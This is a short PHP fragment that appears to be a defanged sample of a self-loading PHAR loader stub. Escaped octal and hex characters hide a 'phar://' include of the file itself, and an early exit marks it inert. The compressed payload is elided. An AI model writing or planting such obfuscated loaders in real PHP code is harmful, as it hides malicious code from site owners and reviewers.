<?php exit; /* inert */ include "\160\x68\141\x72\72\57\57".basename(__FILE__)."\57\x78";__HALT_COMPILER(); ?>
/* phar manifest and compressed stage elided */
